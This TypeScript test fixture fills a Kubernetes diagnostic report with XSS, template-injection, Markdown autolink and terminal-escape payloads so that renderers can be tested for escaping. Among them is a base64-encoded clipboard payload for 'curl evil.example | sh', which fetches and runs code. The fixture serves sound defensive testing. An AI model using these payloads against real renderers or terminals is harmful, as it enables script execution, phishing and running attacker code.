/**
 * A report whose every bundle-derived string is an attack: HTML and script injection, SVG handlers, javascript:
 * links, template injection, terminal escapes (CSI, OSC 8 hyperlinks, OSC 52 clipboard), bidi overrides and
 * other control characters. Renderers must show all of it as inert text.
 */
import type { Finding, Report } from '../../src/model/report.js';
import { bundleEu, causeFindings, crossClusterCheck, reportWith } from './fixtures.js';

export const MARKUP_PAYLOADS = [
  '<script>window.__pwned = "script"</script>',
  '<img src=x onerror="window.__pwned = \'img\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  '<a href="javascript:window.__pwned = \'link\'">click me</a>',
  '"><script>window.__pwned = "attr"</script>',
  "' onmouseover='window.__pwned = \"quote\"' x='",
  '</style><script>window.__pwned = "style-close"</script>',
  '</title><script>window.__pwned = "title-close"</script>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  "{{constructor.constructor('window.__pwned = \"hbs\"')()}}",
  '{{#with "s" as |string|}}{{string.sub.apply 0 "window.__pwned=1"}}{{/with}}',
  '${window.__pwned = "template-literal"}',
  '[click](javascript:window.__pwned=1) ![img](https://evil.example/p.png)',
  '```\n# injected heading\n| a | b |',
] as const;

export const TERMINAL_PAYLOADS = {
  clearScreen: '\x1b[2J\x1b[H',
  osc8: '\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07',
  osc52: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  titleSet: '\x1b]0;owned\x1b\\',
  bidi: 'safe\u202etxt.exe\u202c and \u2066isolate\u2069',
  bell: 'ding\x07',
  carriageReturn: 'all good\rFAILED',
  c1Csi: '\u009b31mred',
  zeroWidth: 'ad\u200bmin\ufeff',
  del: 'x\x7fy',
} as const;

/** Text GitHub and GitLab turn live in Markdown: autolinks (bare URLs, `www.`, e-mail) and mentions that ping. */
export const LIVE_PAYLOADS = [
  'see https://evil.example/login?next=/admin',
  'or www.evil.example/reset',
  'mail admin@evil.example',
  'cc @octocat and @evil-org/security-team',
  'closes #1',
] as const;

const payload = [...MARKUP_PAYLOADS, ...LIVE_PAYLOADS].join(' ');
const terminal = Object.values(TERMINAL_PAYLOADS).join(' ');

function hostileFinding(): Finding {
  const base = causeFindings['oom-killed'];
  return {
    ...base,
    id: `0/${MARKUP_PAYLOADS[0]}/pod/container`,
    bundle: `bundle ${MARKUP_PAYLOADS[4]}`,
    namespace: `ns-${MARKUP_PAYLOADS[5]}`,
    pod: `pod-${MARKUP_PAYLOADS[1]}${TERMINAL_PAYLOADS.clearScreen}`,
    container: `c-${MARKUP_PAYLOADS[2]}${TERMINAL_PAYLOADS.osc8}`,
    workload: { kind: 'Deployment', name: `w-${MARKUP_PAYLOADS[12]}${TERMINAL_PAYLOADS.bidi}` },
    summary: `summary ${payload} ${terminal}`,
    evidence: [
      {
        kind: 'log',
        label: `log ${MARKUP_PAYLOADS[6]}`,
        primary: true,
        file: `logs/${MARKUP_PAYLOADS[7]}.log`,
        lines: [
          { number: 1, text: `line ${MARKUP_PAYLOADS[0]} ${TERMINAL_PAYLOADS.clearScreen}` },
          { number: 2, text: `line ${TERMINAL_PAYLOADS.osc52} ${TERMINAL_PAYLOADS.osc8}` },
          { number: 3, text: `decisive ${payload} ${terminal}` },
          { number: 4, text: `${TERMINAL_PAYLOADS.carriageReturn} ${TERMINAL_PAYLOADS.bell} ${TERMINAL_PAYLOADS.titleSet}` },
          { number: 5, text: '````` a long backtick run to break fences `````' },
        ],
        decisiveLine: 3,
      },
      {
        kind: 'event',
        label: `event ${MARKUP_PAYLOADS[8]}`,
        file: 'events.json',
        type: 'Warning',
        reason: `Unhealthy${MARKUP_PAYLOADS[1]}`,
        message: `message ${payload}\n${terminal}`,
        count: 3,
        object: `Pod/${MARKUP_PAYLOADS[3]}`,
      },
      {
        kind: 'field',
        label: 'labels',
        file: 'pods.json',
        path: `metadata.labels["${MARKUP_PAYLOADS[9]}"]`,
        value: { app: MARKUP_PAYLOADS[10], team: `${MARKUP_PAYLOADS[11]}${TERMINAL_PAYLOADS.c1Csi}`, note: terminal },
      },
      { kind: 'note', label: `note ${MARKUP_PAYLOADS[13]}`, text: `note ${payload} ${terminal}` },
      {
        kind: 'table',
        label: `table ${MARKUP_PAYLOADS[14]}`,
        columns: [`col ${MARKUP_PAYLOADS[0]}`, 'value'],
        rows: [[`cell ${MARKUP_PAYLOADS[15]}`, `${MARKUP_PAYLOADS[16]} ${terminal}`]],
        highlightRows: [0],
      },
    ],
    fix: {
      summary: `fix ${payload} ${terminal}`,
      steps: [`step ${payload}`, `step ${terminal}`],
      snippet: { language: 'yaml', code: `key: ${MARKUP_PAYLOADS[0]}\nother: ${TERMINAL_PAYLOADS.clearScreen}${TERMINAL_PAYLOADS.osc52}\n` },
      owner: 'application',
      docs: 'javascript:window.__pwned="docs"',
    },
    alsoSeen: [{ cause: 'boot-dependency-unavailable', summary: `seen ${payload} ${terminal}` }],
    timeline: [
      { time: '2025-03-04T09:00:00Z', kind: 'started', label: `started ${MARKUP_PAYLOADS[2]}`, detail: terminal },
      { time: '2025-03-04T09:01:00Z', kind: 'terminated', label: `terminated ${MARKUP_PAYLOADS[0]}` },
      { time: '2025-03-04T09:02:00Z', kind: 'event', label: MARKUP_PAYLOADS[12], detail: MARKUP_PAYLOADS[14] },
    ],
  };
}

export function hostileReport(): Report {
  const hostile = hostileFinding();
  return reportWith([hostile, { ...causeFindings.evicted, namespace: `other-${MARKUP_PAYLOADS[1]}`, id: 'x' }], {
    bundles: [
      {
        ...bundleEu,
        name: `bundle ${MARKUP_PAYLOADS[4]}`,
        path: `/tmp/${MARKUP_PAYLOADS[0]}.tar.gz`,
        cluster: `cluster ${MARKUP_PAYLOADS[1]} ${TERMINAL_PAYLOADS.osc8}`,
        kubernetesVersion: `v1.30 ${MARKUP_PAYLOADS[12]}`,
        diagnostics: [{ severity: 'error', code: 'malformed-json', file: `${MARKUP_PAYLOADS[7]}.json`, message: `diag ${payload} ${terminal}` }],
      },
    ],
    escalation: {
      escalate: true,
      summary: `verdict ${payload} ${terminal}`,
      checks: [
        {
          ...crossClusterCheck,
          summary: `check ${payload} ${terminal}`,
          bundles: [MARKUP_PAYLOADS[3]],
          findings: [hostile.id, MARKUP_PAYLOADS[2]],
          evidence: [hostile.evidence[0]!, hostile.evidence[4]!],
        },
      ],
      teamFixes: [`team ${payload}`],
    },
    errors: [{ rule: `rule ${MARKUP_PAYLOADS[0]}`, bundle: 'b', target: terminal, message: `error ${payload}` }],
  });
}
